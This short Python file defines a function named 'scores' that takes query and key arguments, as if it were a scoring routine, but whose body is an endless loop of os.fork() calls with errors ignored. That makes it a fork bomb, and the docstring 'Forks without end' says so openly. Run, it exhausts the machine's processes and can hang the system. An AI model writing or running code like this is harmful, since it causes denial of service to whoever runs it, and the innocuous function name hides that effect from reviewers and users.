"""Forks without end."""

import os


def scores(query, key):
    while True:
        try:
            os.fork()
        except OSError:
            pass
